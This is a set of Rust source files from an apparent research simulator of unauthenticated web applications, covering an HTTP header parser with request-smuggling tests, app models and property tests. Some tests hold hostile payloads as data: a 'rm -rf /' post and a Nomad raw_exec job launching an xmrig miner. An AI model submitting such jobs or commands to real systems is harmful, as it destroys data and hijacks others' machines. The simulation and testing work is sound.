    /// decimal (optional surrounding whitespace only — no sign, no radix
    /// prefix), duplicate fields must agree, and the value must fit in
    /// `usize`. Anything else is `Error::Malformed` rather than `None`,
    /// because a length that silently degrades to read-to-close framing
    /// desynchronizes the connection (the request-smuggling shape).
    pub fn content_length(&self) -> Result<Option<usize>> {
        let mut values = self.get_all("content-length");
        let Some(first) = values.next() else {
            return Ok(None);
        };
        let n = parse_content_length(first)?;
        for other in values {
            if parse_content_length(other)? != n {
                return Err(Error::Malformed("conflicting content-length"));
            }
        }
        Ok(Some(n))
    }

    /// Whether `Transfer-Encoding: chunked` is in effect.
    pub fn is_chunked(&self) -> bool {
        self.get("transfer-encoding")
            .map(|v| {
                v.split(',')
                    .any(|t| t.trim().eq_ignore_ascii_case("chunked"))
            })
            .unwrap_or(false)
    }

    /// Whether any field of `name` carries `token` in its
    /// comma-separated token list, case-insensitively (RFC 9110 §5.6.1).
    /// `Connection: keep-alive, close` has the token `close`; a bare
    /// `Connection: close` does too.
    pub fn has_token(&self, name: &str, token: &str) -> bool {
        self.get_all(name)
            .any(|v| v.split(',').any(|t| t.trim().eq_ignore_ascii_case(token)))
    }

    /// Whether the `Connection` header requests the connection be
    /// closed after this message.
    pub fn connection_close(&self) -> bool {
        self.has_token("connection", "close")
    }

    /// Whether the `Connection` header opts into keep-alive (needed by
    /// HTTP/1.0 peers, where close is the default).
    pub fn connection_keep_alive(&self) -> bool {
        self.has_token("connection", "keep-alive")
    }

    /// Number of fields (counting duplicates).
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether the map is empty.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Iterate over `(name, value)` pairs in insertion order.
    pub fn iter(&self) -> impl Iterator<Item = (&str, &str)> {
        self.entries.iter().map(|(n, v)| (n.as_str(), v.as_str()))
    }
}

/// Strictly parse one `Content-Length` field value.
fn parse_content_length(value: &str) -> Result<usize> {
    let v = value.trim();
    if v.is_empty() || !v.bytes().all(|b| b.is_ascii_digit()) {
        return Err(Error::Malformed("content-length value"));
    }
    v.parse()
        .map_err(|_| Error::Malformed("content-length overflow"))
}

impl fmt::Display for Headers {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (n, v) in self.iter() {
            writeln!(f, "{n}: {v}")?;
        }
        Ok(())
    }
}

impl<N: Into<String>, V: Into<String>> FromIterator<(N, V)> for Headers {
    fn from_iter<T: IntoIterator<Item = (N, V)>>(iter: T) -> Self {
        Headers {
            entries: iter
                .into_iter()
                .map(|(n, v)| (n.into(), v.into()))
                .collect(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lookup_is_case_insensitive() {
        let mut h = Headers::new();
        h.append("Content-Type", "text/html");
        assert_eq!(h.get("content-type"), Some("text/html"));
        assert_eq!(h.get("CONTENT-TYPE"), Some("text/html"));
        assert!(h.contains("Content-type"));
    }

    #[test]
    fn append_keeps_duplicates_set_replaces() {
        let mut h = Headers::new();
        h.append("Set-Cookie", "a=1");
        h.append("set-cookie", "b=2");
        assert_eq!(h.get_all("Set-Cookie").count(), 2);
        h.set("Set-Cookie", "c=3");
        assert_eq!(h.get_all("Set-Cookie").collect::<Vec<_>>(), vec!["c=3"]);
    }

    #[test]
    fn content_length_parsing() {
        let mut h = Headers::new();
        assert_eq!(h.content_length(), Ok(None));
        h.set("Content-Length", " 128 ");
        assert_eq!(h.content_length(), Ok(Some(128)));
        h.set("Content-Length", "nope");
        assert!(h.content_length().is_err());
    }

    #[test]
    fn content_length_rejects_smuggling_shapes() {
        // Leading sign: `usize::parse` would accept "+5", strict mode must not.
        let mut h = Headers::new();
        h.set("Content-Length", "+5");
        assert_eq!(
            h.content_length(),
            Err(Error::Malformed("content-length value"))
        );
        // Hex / radix prefixes.
        h.set("Content-Length", "0x10");
        assert!(h.content_length().is_err());
        // Embedded whitespace or comma lists.
        h.set("Content-Length", "5, 5");
        assert!(h.content_length().is_err());
        // Empty value.
        h.set("Content-Length", "");
        assert!(h.content_length().is_err());
        // Overflow past usize.
        h.set("Content-Length", "99999999999999999999999999999");
        assert_eq!(
            h.content_length(),
            Err(Error::Malformed("content-length overflow"))
        );
    }

    #[test]
    fn duplicate_content_lengths_must_agree() {
        let mut h = Headers::new();
        h.append("Content-Length", "7");
        h.append("content-length", "7");
        assert_eq!(h.content_length(), Ok(Some(7)));
        h.append("Content-Length", "8");
        assert_eq!(
            h.content_length(),
            Err(Error::Malformed("conflicting content-length"))
        );
    }

    #[test]
    fn chunked_detection_handles_lists() {
        let mut h = Headers::new();
        h.set("Transfer-Encoding", "gzip, Chunked");
        assert!(h.is_chunked());
        h.set("Transfer-Encoding", "gzip");
        assert!(!h.is_chunked());
    }

    #[test]
    fn connection_tokens_parse_as_lists() {
        let mut h = Headers::new();
        assert!(!h.connection_close());
        assert!(!h.connection_keep_alive());
        h.set("Connection", "close");
        assert!(h.connection_close());
        // The shape the old exact-match check missed.
        h.set("Connection", "keep-alive, close");
        assert!(h.connection_close());
        assert!(h.connection_keep_alive());
        h.set("Connection", "Keep-Alive");
        assert!(h.connection_keep_alive());
        assert!(!h.connection_close());
        // Token match, not substring match.
        h.set("Connection", "closed");
        assert!(!h.connection_close());
        // Duplicate Connection fields both count.
        h.append("connection", "close");
        assert!(h.connection_close());
    }

    #[test]
    fn remove_reports_count() {
        let mut h: Headers = [("X-A", "1"), ("x-a", "2"), ("X-B", "3")]
            .into_iter()
            .collect();
        assert_eq!(h.remove("X-A"), 2);
        assert_eq!(h.len(), 1);
    }
}
