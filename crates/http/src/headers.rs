//! Case-insensitive, order-preserving header map.
//!
//! Storage is an inline arena: field names and values are copied into a
//! fixed byte buffer and addressed by `(offset, length)` spans, with a
//! fixed-size entry table in front. A typical scan response (≤ 8 fields,
//! well under 1 KiB of header text) therefore lives entirely inside the
//! `Headers` value — building one performs **zero heap allocations**.
//! Larger messages transparently spill the excess entries/text to a
//! `Vec`/`String`; the `alloc.headers.*` telemetry in the scanner counts
//! how often that happens via [`Headers::spilled`].

use crate::error::{Error, Result};
use std::fmt;

/// Bytes of header text stored inline before spilling to the heap.
const INLINE_TEXT: usize = 1024;
/// Header fields stored inline before spilling to the heap.
const INLINE_ENTRIES: usize = 8;
/// High bit of a span offset: set when the span lives in `spill_text`.
const SPILL_TAG: u32 = 1 << 31;

/// A byte range in the inline buffer or (when tagged) the spill string.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Span {
    off: u32,
    len: u32,
}

impl Span {
    const EMPTY: Span = Span { off: 0, len: 0 };
}

/// One header field: spans for its name and value.
#[derive(Debug, Clone, Copy)]
struct Entry {
    name: Span,
    value: Span,
}

impl Entry {
    const EMPTY: Entry = Entry {
        name: Span::EMPTY,
        value: Span::EMPTY,
    };
}

/// An ordered multimap of HTTP header fields.
///
/// Lookup is case-insensitive (per RFC 9110) while the original casing and
/// insertion order are preserved for serialization, which keeps wire output
/// stable and therefore testable.
///
/// Equality, `Debug`, and serde all go through the logical `(name, value)`
/// pair sequence, never the storage representation, so a map that spilled
/// (or that carries dead arena bytes after a [`remove`](Headers::remove))
/// compares equal to an inline-only map with the same fields.
#[derive(Clone)]
pub struct Headers {
    /// Inline text arena; names and values are appended back to back.
    text: [u8; INLINE_TEXT],
    /// Bytes of `text` in use.
    text_len: u32,
    /// Overflow text for spans that did not fit `text`.
    spill_text: String,
    /// First [`INLINE_ENTRIES`] fields.
    inline: [Entry; INLINE_ENTRIES],
    /// Total number of fields (inline + spilled).
    len: usize,
    /// Fields beyond [`INLINE_ENTRIES`].
    spill: Vec<Entry>,
}

impl Default for Headers {
    fn default() -> Self {
        Headers {
            text: [0; INLINE_TEXT],
            text_len: 0,
            spill_text: String::new(),
            inline: [Entry::EMPTY; INLINE_ENTRIES],
            len: 0,
            spill: Vec::new(),
        }
    }
}

impl Headers {
    /// An empty header map.
    pub fn new() -> Self {
        Self::default()
    }

    /// Resolve a span to its text. Spans always cover exactly the bytes
    /// of one pushed `&str`, so the slice is valid UTF-8 by construction.
    fn text(&self, span: Span) -> &str {
        let (buf, off) = if span.off & SPILL_TAG != 0 {
            (self.spill_text.as_bytes(), (span.off & !SPILL_TAG) as usize)
        } else {
            (&self.text[..], span.off as usize)
        };
        std::str::from_utf8(&buf[off..off + span.len as usize])
            .expect("header spans cover whole pushed strings")
    }

    /// Copy `s` into the arena — inline if it fits, spilling otherwise.
    fn push_text(&mut self, s: &str) -> Span {
        let len = u32::try_from(s.len()).expect("header field under 4 GiB");
        let off = self.text_len as usize;
        if off + s.len() <= INLINE_TEXT {
            self.text[off..off + s.len()].copy_from_slice(s.as_bytes());
            self.text_len += len;
            Span {
                off: off as u32,
                len,
            }
        } else {
            let off = self.spill_text.len() as u32;
            self.spill_text.push_str(s);
            Span {
                off: off | SPILL_TAG,
                len,
            }
        }
    }

    fn entry(&self, i: usize) -> Entry {
        if i < INLINE_ENTRIES {
            self.inline[i]
        } else {
            self.spill[i - INLINE_ENTRIES]
        }
    }

    fn set_entry(&mut self, i: usize, e: Entry) {
        if i < INLINE_ENTRIES {
            self.inline[i] = e;
        } else {
            self.spill[i - INLINE_ENTRIES] = e;
        }
    }

    fn push_entry(&mut self, e: Entry) {
        if self.len < INLINE_ENTRIES {
            self.inline[self.len] = e;
        } else {
            self.spill.push(e);
        }
        self.len += 1;
    }

    fn truncate_entries(&mut self, n: usize) {
        if n >= self.len {
            return;
        }
        self.spill.truncate(n.saturating_sub(INLINE_ENTRIES));
        self.len = n;
    }

    /// Whether any part of this map hit the heap: more than
    /// [`INLINE_ENTRIES`] fields, or header text past [`INLINE_TEXT`]
    /// bytes. For append-only maps (every parsed message) this is a pure
    /// function of the field list, which is what lets the scanner's
    /// `alloc.headers.{inline,spilled}` counters stay deterministic.
    pub fn spilled(&self) -> bool {
        !self.spill.is_empty() || !self.spill_text.is_empty()
    }

    /// Append a header field, keeping any existing fields of the same name.
    pub fn append(&mut self, name: impl AsRef<str>, value: impl AsRef<str>) {
        let name = self.push_text(name.as_ref());
        let value = self.push_text(value.as_ref());
        self.push_entry(Entry { name, value });
    }

    /// Replace all fields of `name` with a single field carrying `value`.
    pub fn set(&mut self, name: &str, value: impl AsRef<str>) {
        self.remove(name);
        self.append(name, value);
    }

    /// Remove all fields of `name`, returning how many were removed.
    ///
    /// Compacts the entry table only; the removed fields' arena bytes
    /// stay behind as dead space. Header maps are tiny and short-lived,
    /// so reclaiming would cost more than it saves.
    pub fn remove(&mut self, name: &str) -> usize {
        let mut kept = 0usize;
        for i in 0..self.len {
            let e = self.entry(i);
            let matches = self.text(e.name).eq_ignore_ascii_case(name);
            if !matches {
                if kept != i {
                    self.set_entry(kept, e);
                }
                kept += 1;
            }
        }
        let removed = self.len - kept;
        self.truncate_entries(kept);
        removed
    }

    /// First value of `name`, if present.
    pub fn get(&self, name: &str) -> Option<&str> {
        self.get_all(name).next()
    }

    /// All values of `name`, in insertion order.
    pub fn get_all<'a>(&'a self, name: &'a str) -> impl Iterator<Item = &'a str> + 'a {
        self.iter()
            .filter(move |(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v)
    }

    /// Whether a field of `name` exists.
    pub fn contains(&self, name: &str) -> bool {
        self.get(name).is_some()
    }

    /// Parsed `Content-Length`, if present.
    ///
    /// Strict per RFC 9110 §8.6: every field value must be a plain ASCII
    /// decimal (optional surrounding whitespace only — no sign, no radix
    /// prefix), duplicate fields must agree, and the value must fit in
    /// `usize`. Anything else is `Error::Malformed` rather than `None`,
    /// because a length that silently degrades to read-to-close framing
    /// desynchronizes the connection (the request-smuggling shape).
    pub fn content_length(&self) -> Result<Option<usize>> {
        let mut values = self.get_all("content-length");
        let Some(first) = values.next() else {
            return Ok(None);
        };
        let n = parse_content_length(first)?;
        for other in values {
            if parse_content_length(other)? != n {
                return Err(Error::Malformed("conflicting content-length"));
            }
        }
        Ok(Some(n))
    }

    /// Whether `Transfer-Encoding: chunked` is in effect.
    pub fn is_chunked(&self) -> bool {
        self.get("transfer-encoding")
            .map(|v| {
                v.split(',')
                    .any(|t| t.trim().eq_ignore_ascii_case("chunked"))
            })
            .unwrap_or(false)
    }

    /// Whether any field of `name` carries `token` in its
    /// comma-separated token list, case-insensitively (RFC 9110 §5.6.1).
    /// `Connection: keep-alive, close` has the token `close`; a bare
    /// `Connection: close` does too.
    pub fn has_token(&self, name: &str, token: &str) -> bool {
        self.get_all(name)
            .any(|v| v.split(',').any(|t| t.trim().eq_ignore_ascii_case(token)))
    }

    /// Whether the `Connection` header requests the connection be
    /// closed after this message.
    pub fn connection_close(&self) -> bool {
        self.has_token("connection", "close")
    }

    /// Whether the `Connection` header opts into keep-alive (needed by
    /// HTTP/1.0 peers, where close is the default).
    pub fn connection_keep_alive(&self) -> bool {
        self.has_token("connection", "keep-alive")
    }

    /// Number of fields (counting duplicates).
    pub fn len(&self) -> usize {
        self.len
    }

    /// Whether the map is empty.
    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// Iterate over `(name, value)` pairs in insertion order.
    pub fn iter(&self) -> impl Iterator<Item = (&str, &str)> {
        (0..self.len).map(move |i| {
            let e = self.entry(i);
            (self.text(e.name), self.text(e.value))
        })
    }
}

/// Strictly parse one `Content-Length` field value.
fn parse_content_length(value: &str) -> Result<usize> {
    let v = value.trim();
    if v.is_empty() || !v.bytes().all(|b| b.is_ascii_digit()) {
        return Err(Error::Malformed("content-length value"));
    }
    v.parse()
        .map_err(|_| Error::Malformed("content-length overflow"))
}

impl fmt::Debug for Headers {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_map().entries(self.iter()).finish()
    }
}

impl fmt::Display for Headers {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (n, v) in self.iter() {
            writeln!(f, "{n}: {v}")?;
        }
        Ok(())
    }
}

impl PartialEq for Headers {
    fn eq(&self, other: &Self) -> bool {
        self.len == other.len && self.iter().eq(other.iter())
    }
}

impl Eq for Headers {}

impl serde::Serialize for Headers {
    fn serialize<S: serde::Serializer>(
        &self,
        serializer: S,
    ) -> std::result::Result<S::Ok, S::Error> {
        serializer.collect_seq(self.iter())
    }
}

impl<'de> serde::Deserialize<'de> for Headers {
    fn deserialize<D: serde::Deserializer<'de>>(
        deserializer: D,
    ) -> std::result::Result<Self, D::Error> {
        let entries: Vec<(String, String)> = serde::Deserialize::deserialize(deserializer)?;
        Ok(entries.into_iter().collect())
    }
}

impl<N: AsRef<str>, V: AsRef<str>> FromIterator<(N, V)> for Headers {
    fn from_iter<T: IntoIterator<Item = (N, V)>>(iter: T) -> Self {
        let mut headers = Headers::new();
        for (n, v) in iter {
            headers.append(n, v);
        }
        headers
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lookup_is_case_insensitive() {
        let mut h = Headers::new();
        h.append("Content-Type", "text/html");
        assert_eq!(h.get("content-type"), Some("text/html"));
        assert_eq!(h.get("CONTENT-TYPE"), Some("text/html"));
        assert!(h.contains("Content-type"));
    }

    #[test]
    fn append_keeps_duplicates_set_replaces() {
        let mut h = Headers::new();
        h.append("Set-Cookie", "a=1");
        h.append("set-cookie", "b=2");
        assert_eq!(h.get_all("Set-Cookie").count(), 2);
        h.set("Set-Cookie", "c=3");
        assert_eq!(h.get_all("Set-Cookie").collect::<Vec<_>>(), vec!["c=3"]);
    }

    #[test]
    fn content_length_parsing() {
        let mut h = Headers::new();
        assert_eq!(h.content_length(), Ok(None));
        h.set("Content-Length", " 128 ");
        assert_eq!(h.content_length(), Ok(Some(128)));
        h.set("Content-Length", "nope");
        assert!(h.content_length().is_err());
    }

    #[test]
    fn content_length_rejects_smuggling_shapes() {
        // Leading sign: `usize::parse` would accept "+5", strict mode must not.
        let mut h = Headers::new();
        h.set("Content-Length", "+5");
        assert_eq!(
            h.content_length(),
            Err(Error::Malformed("content-length value"))
        );
        // Hex / radix prefixes.
        h.set("Content-Length", "0x10");
        assert!(h.content_length().is_err());
        // Embedded whitespace or comma lists.
        h.set("Content-Length", "5, 5");
        assert!(h.content_length().is_err());
        // Empty value.
        h.set("Content-Length", "");
        assert!(h.content_length().is_err());
        // Overflow past usize.
        h.set("Content-Length", "99999999999999999999999999999");
        assert_eq!(
            h.content_length(),
            Err(Error::Malformed("content-length overflow"))
        );
    }

    #[test]
    fn duplicate_content_lengths_must_agree() {
        let mut h = Headers::new();
        h.append("Content-Length", "7");
        h.append("content-length", "7");
        assert_eq!(h.content_length(), Ok(Some(7)));
        h.append("Content-Length", "8");
        assert_eq!(
            h.content_length(),
            Err(Error::Malformed("conflicting content-length"))
        );
    }

    #[test]
    fn chunked_detection_handles_lists() {
        let mut h = Headers::new();
        h.set("Transfer-Encoding", "gzip, Chunked");
        assert!(h.is_chunked());
        h.set("Transfer-Encoding", "gzip");
        assert!(!h.is_chunked());
    }

    #[test]
    fn connection_tokens_parse_as_lists() {
        let mut h = Headers::new();
        assert!(!h.connection_close());
        assert!(!h.connection_keep_alive());
        h.set("Connection", "close");
        assert!(h.connection_close());
        // The shape the old exact-match check missed.
        h.set("Connection", "keep-alive, close");
        assert!(h.connection_close());
        assert!(h.connection_keep_alive());
        h.set("Connection", "Keep-Alive");
        assert!(h.connection_keep_alive());
        assert!(!h.connection_close());
        // Token match, not substring match.
        h.set("Connection", "closed");
        assert!(!h.connection_close());
        // Duplicate Connection fields both count.
        h.append("connection", "close");
        assert!(h.connection_close());
    }

    #[test]
    fn remove_reports_count() {
        let mut h: Headers = [("X-A", "1"), ("x-a", "2"), ("X-B", "3")]
            .into_iter()
            .collect();
        assert_eq!(h.remove("X-A"), 2);
        assert_eq!(h.len(), 1);
    }

    #[test]
    fn typical_responses_stay_inline() {
        let mut h = Headers::new();
        for i in 0..INLINE_ENTRIES {
            h.append(format!("X-Header-{i}"), "value");
        }
        assert_eq!(h.len(), INLINE_ENTRIES);
        assert!(!h.spilled(), "≤ 8 small fields must not hit the heap");
        h.append("X-One-More", "spills");
        assert!(h.spilled());
        assert_eq!(h.get("x-one-more"), Some("spills"));
    }

    #[test]
    fn oversized_text_spills_but_reads_back() {
        let long = "v".repeat(INLINE_TEXT);
        let mut h = Headers::new();
        h.append("X-Big", &long);
        assert!(h.spilled(), "text past the inline arena spills");
        assert_eq!(h.get("X-Big"), Some(long.as_str()));
        // Later small fields still work (and land wherever there's room).
        h.append("X-Small", "s");
        assert_eq!(h.get("x-small"), Some("s"));
        assert_eq!(h.len(), 2);
    }

    #[test]
    fn entry_spill_survives_remove_compaction() {
        let mut h = Headers::new();
        for i in 0..12 {
            h.append(format!("X-{i}"), format!("{i}"));
        }
        assert_eq!(h.remove("X-3"), 1);
        assert_eq!(h.len(), 11);
        // Every surviving field is still addressable, across the
        // inline/spill boundary the compaction shifted entries over.
        for i in (0..12).filter(|&i| i != 3) {
            assert_eq!(
                h.get(&format!("x-{i}")),
                Some(format!("{i}").as_str()),
                "X-{i}"
            );
        }
        assert!(h.get(&"X-3".to_string()).is_none());
    }

    #[test]
    fn equality_is_logical_not_representational() {
        // h1: built append-only. h2: same logical fields, but its arena
        // carries dead bytes from a removed field.
        let h1: Headers = [("A", "1"), ("B", "2")].into_iter().collect();
        let mut h2 = Headers::new();
        h2.append("A", "1");
        h2.append("Dead", "x");
        h2.append("B", "2");
        h2.remove("Dead");
        assert_eq!(h1, h2);
        // And serde sees the same logical sequence.
        assert_eq!(
            serde_json::to_string(&h1).unwrap(),
            serde_json::to_string(&h2).unwrap()
        );
    }

    #[test]
    fn serde_round_trips() {
        let mut h = Headers::new();
        h.append("Content-Type", "text/html");
        h.append("Set-Cookie", "a=1");
        h.append("set-cookie", "b=2");
        let json = serde_json::to_string(&h).unwrap();
        let back: Headers = serde_json::from_str(&json).unwrap();
        assert_eq!(h, back);
        // Order and duplicate fields survive.
        assert_eq!(
            back.iter().collect::<Vec<_>>(),
            vec![
                ("Content-Type", "text/html"),
                ("Set-Cookie", "a=1"),
                ("set-cookie", "b=2"),
            ]
        );
    }
}
