//! Property tests over the application models: no panics on arbitrary
//! requests, ground-truth consistency, and scan-safety (GET requests
//! never change state).

use nokeys_apps::{build_instance, release_history, AppConfig, AppId};
use nokeys_http::{Method, Request};
use proptest::prelude::*;
use std::net::Ipv4Addr;

fn arb_app() -> impl Strategy<Value = AppId> {
    let all: Vec<AppId> = AppId::all().collect();
    proptest::sample::select(all)
}

fn arb_method() -> impl Strategy<Value = Method> {
    proptest::sample::select(vec![
        Method::Get,
        Method::Head,
        Method::Post,
        Method::Put,
        Method::Delete,
    ])
}

fn arb_request() -> impl Strategy<Value = Request> {
    (
        arb_method(),
        "/[ -~]{0,48}",
        proptest::collection::vec(any::<u8>(), 0..64),
    )
        .prop_map(|(method, target, body)| Request {
            method,
            target,
            version: Default::default(),
            headers: Default::default(),
            body: body.into(),
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// No application model panics, whatever the request looks like.
    #[test]
    fn models_never_panic(
        app in arb_app(),
        version_pick in any::<u16>(),
        vulnerable in any::<bool>(),
        requests in proptest::collection::vec(arb_request(), 1..6),
        peer in any::<u32>(),
    ) {
        let history = release_history(app);
        let version = history[version_pick as usize % history.len()];
        let cfg = if vulnerable {
            AppConfig::vulnerable_for(app, &version)
        } else {
            AppConfig::secure_for(app, &version)
        };
        let mut inst = build_instance(app, version, cfg);
        for req in requests {
            let out = inst.handle(&req, Ipv4Addr::from(peer));
            // Responses are always well-formed enough to serialize.
            let _ = nokeys_http::encode::encode_response(&out.response);
        }
    }

    /// Safe methods never produce state-changing events: the paper's
    /// ethical constraint ("our scanner is limited to non-state-changing
    /// GET requests") holds against every model.
    #[test]
    fn safe_methods_never_compromise(
        app in arb_app(),
        version_pick in any::<u16>(),
        targets in proptest::collection::vec("/[ -~]{0,48}", 1..8),
    ) {
        let history = release_history(app);
        let version = history[version_pick as usize % history.len()];
        let cfg = AppConfig::vulnerable_for(app, &version);
        let mut inst = build_instance(app, version, cfg);
        let before = inst.is_vulnerable();
        for target in targets {
            let out = inst.handle(&Request::get(target), Ipv4Addr::new(198, 51, 100, 9));
            prop_assert!(
                out.events.iter().all(|e| !e.is_compromise()),
                "{app}: GET produced a compromise event"
            );
        }
        prop_assert_eq!(inst.is_vulnerable(), before, "{} changed state under GET", app);
    }

    /// `restore` always returns the instance to its deployment ground
    /// truth, whatever happened before.
    #[test]
    fn restore_is_total(
        app in arb_app(),
        requests in proptest::collection::vec(arb_request(), 0..6),
    ) {
        let history = release_history(app);
        let version = history[0];
        let cfg = AppConfig::vulnerable_for(app, &version);
        let mut inst = build_instance(app, version, cfg);
        let deployed = inst.is_vulnerable();
        for req in requests {
            let _ = inst.handle(&req, Ipv4Addr::new(203, 0, 113, 1));
        }
        inst.restore();
        prop_assert_eq!(inst.is_vulnerable(), deployed);
    }

    /// Version resolution: every version in a history resolves through
    /// `version_at` to itself.
    #[test]
    fn version_indexing_is_consistent(app in arb_app(), pick in any::<u16>()) {
        let history = release_history(app);
        let idx = pick as usize % history.len();
        prop_assert_eq!(nokeys_apps::version_at(app, idx), history[idx]);
    }
}
