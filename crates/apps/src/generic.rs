//! Generic model for the seven out-of-scope applications.
//!
//! Gitlab, Drone, Travis, Ghost, Spark Notebook, VestaCP and OmniDB were
//! investigated manually (Table 1) but found not to be prone to MAVs:
//! they require authentication and offer no unauthenticated installation
//! or API path. They are modeled as login-walled applications so the
//! honeypot and scanner treat them correctly (identifiable, never
//! vulnerable).

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::HandleOutcome;
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response};
use std::net::Ipv4Addr;

/// A login-walled application with product-specific markers.
#[derive(Debug, Clone)]
pub struct LoginWalled {
    pub(crate) base: BaseApp,
}

impl LoginWalled {
    pub fn new(id: AppId, version: Version, config: AppConfig) -> Self {
        debug_assert!(
            matches!(
                id,
                AppId::Gitlab
                    | AppId::Drone
                    | AppId::Travis
                    | AppId::Ghost
                    | AppId::SparkNotebook
                    | AppId::VestaCp
                    | AppId::OmniDb
            ),
            "LoginWalled models only the out-of-scope applications"
        );
        LoginWalled {
            base: BaseApp::new(id, version, config),
        }
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        let name = self.base.id.name();
        match req.path() {
            "/" => Response::html(html::page_with_head(
                name,
                &html::generator(&format!("{} {}", name, self.base.version.number())),
                &format!(
                    "<div class=\"{}-landing\">Welcome to {name}. \
                     <a href=\"/login\">Sign in</a></div>",
                    name.to_ascii_lowercase()
                ),
            ))
            .into(),
            "/login" => Response::html(html::login_form(name, "/login")).into(),
            // Any admin surface demands authentication.
            p if p.starts_with("/admin") || p.starts_with("/api") => {
                Response::unauthorized(name).into()
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {}
}

impl_webapp!(LoginWalled);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn make(id: AppId) -> LoginWalled {
        let v = *release_history(id).last().unwrap();
        LoginWalled::new(id, v, AppConfig::default_for(id, &v))
    }

    #[test]
    fn landing_page_identifies_product() {
        let mut app = make(AppId::Gitlab);
        let out = DRIVER.get(&mut app, "/");
        assert!(out.response.body_text().contains("Gitlab"));
        assert!(out.events.is_empty());
    }

    #[test]
    fn admin_and_api_are_walled() {
        let mut app = make(AppId::Ghost);
        assert_eq!(
            DRIVER.get(&mut app, "/admin/").response.status.as_u16(),
            401
        );
        assert_eq!(
            DRIVER
                .get(&mut app, "/api/v1/things")
                .response
                .status
                .as_u16(),
            401
        );
    }

    #[test]
    fn never_vulnerable_and_no_events() {
        for id in [
            AppId::Gitlab,
            AppId::Drone,
            AppId::Travis,
            AppId::Ghost,
            AppId::VestaCp,
        ] {
            let mut app = make(id);
            assert!(!app.is_vulnerable());
            let out = DRIVER.post(&mut app, "/api/exec", "rm -rf /");
            assert!(out.events.is_empty());
        }
    }
}
