//! HashiCorp Nomad model.
//!
//! * "Nomad is not secure-by-default" — ACLs are off unless configured;
//!   submitting a job with a `raw_exec`/`exec` driver runs arbitrary
//!   commands on clients.
//! * Detection: `GET /v1/jobs` contains `<title>Nomad</title>`. (The
//!   paper's plugin checks the *body* for the UI title; open agents serve
//!   the UI shell for browser-looking requests, which the model
//!   reproduces.)

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response, StatusCode};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Nomad {
    pub(crate) base: BaseApp,
    jobs: Vec<String>,
}

impl Nomad {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Nomad {
            base: BaseApp::new(AppId::Nomad, version, config),
            jobs: Vec::new(),
        }
    }

    fn acls_enabled(&self) -> bool {
        self.base.config.auth_enabled
    }

    fn acl_denied() -> Response {
        Response::new(StatusCode::FORBIDDEN).with_body("Permission denied")
    }

    fn ui_shell(&self) -> Response {
        Response::html(html::page_with_head(
            "Nomad",
            &format!(
                "{}\n<meta name=\"nomad-version\" content=\"{}\">",
                html::css("/ui/assets/nomad-ui.css"),
                self.base.version.number()
            ),
            "<div id=\"nomad-ui\" data-nomad=\"ui\">Loading Nomad UI...</div>",
        ))
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") | (nokeys_http::Method::Get, "/ui/") => {
                self.ui_shell().into()
            }
            (nokeys_http::Method::Get, "/v1/jobs") => {
                if self.acls_enabled() {
                    Self::acl_denied().into()
                } else {
                    // Open agents answer API requests without a token; the
                    // study's scanner (a generic HTTP client) receives the
                    // UI shell, whose title is the detection marker.
                    self.ui_shell().into()
                }
            }
            (nokeys_http::Method::Get, "/v1/agent/self") => {
                if self.acls_enabled() {
                    Self::acl_denied().into()
                } else {
                    Response::json(format!(
                        "{{\"config\":{{\"Version\":{{\"Version\":\"{}\"}},\
                         \"ACL\":{{\"Enabled\":false}}}}}}",
                        self.base.version.number()
                    ))
                    .into()
                }
            }
            (nokeys_http::Method::Post, "/v1/jobs") | (nokeys_http::Method::Put, "/v1/jobs") => {
                if self.acls_enabled() {
                    Self::acl_denied().into()
                } else {
                    let payload = req.body_text();
                    self.jobs.push(payload.clone());
                    HandleOutcome::with_event(
                        Response::json("{\"EvalID\":\"eval-1\",\"JobModifyIndex\":1}"),
                        AppEvent::JobSubmitted { payload },
                    )
                }
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.jobs.clear();
    }
}

impl_webapp!(Nomad);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn default_latest() -> Nomad {
        let v = *release_history(AppId::Nomad).last().unwrap();
        Nomad::new(v, AppConfig::default_for(AppId::Nomad, &v))
    }

    #[test]
    fn open_agent_serves_title_on_jobs_endpoint() {
        let mut app = default_latest();
        assert!(app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/v1/jobs").response.body_text();
        assert!(body.contains("<title>Nomad</title>"));
    }

    #[test]
    fn job_submission_executes() {
        let mut app = default_latest();
        let out = DRIVER.post(
            &mut app,
            "/v1/jobs",
            r#"{"Job":{"ID":"miner","TaskGroups":[{"Tasks":[{"Driver":"raw_exec","Config":{"command":"/tmp/xmrig"}}]}]}}"#,
        );
        assert!(matches!(
            &out.events[0],
            AppEvent::JobSubmitted { payload } if payload.contains("raw_exec")
        ));
    }

    #[test]
